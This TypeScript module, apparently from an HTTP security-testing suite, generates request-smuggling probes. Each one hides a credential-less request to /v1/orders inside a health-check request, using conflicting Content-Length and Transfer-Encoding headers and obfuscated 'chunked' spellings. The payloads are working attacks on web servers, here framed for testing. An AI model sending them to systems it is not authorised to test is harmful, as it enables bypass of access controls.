import { rawRequests, type RawParts } from '../../kinds/raw-request.ts'

/** A request without credentials, hidden in the body of another. */
const hidden = ({ host, id }: RawParts) =>
  `GET /v1/orders HTTP/1.1\r\nHost: ${host}\r\n${id.join(': ')}\r\nConnection: close\r\n\r\n`

/** An open request whose body one server ends at the chunk and another at the length. */
function smuggled(parts: RawParts, fields: readonly (readonly [string, string])[]): string {
  const body = `0\r\n\r\n${hidden(parts)}`
  return `${parts.request('GET /health', [...fields, ['Content-Length', String(body.length)]])}${body}`
}

export const transferEncoding = rawRequests({
  id: 'transfer-encoding',
  title: 'A request is smuggled in the body of another',
  oat: 'OAT-014',
  method:
    'Content-Length and Transfer-Encoding disagree; spellings of chunked; two lengths; a kept connection',
  variants: [
    (parts) => smuggled(parts, [['Transfer-Encoding', 'chunked']]),
    (parts) => smuggled(parts, [['Transfer-Encoding', 'xchunked']]),
    (parts) => smuggled(parts, [['Transfer-Encoding', 'chunked, identity']]),
    (parts) => smuggled(parts, [['Transfer-Encoding ', 'chunked']]),
    (parts) => smuggled(parts, [['Transfer-Encoding', '\tchunked']]),
    (parts) => smuggled(parts, [['Content-Length', '5']]),
    (parts) => `GET /health HTTP/1.1\r\nHost: ${parts.host}\r\n\r\n${hidden(parts)}`,
    (parts) =>
      `GET /health HTTP/1.1\r\nHost: ${parts.host}\r\n${parts.token.join(': ')}\r\n${parts.proof().join(': ')}\r\n\r\n${hidden(parts)}`,
  ],
})
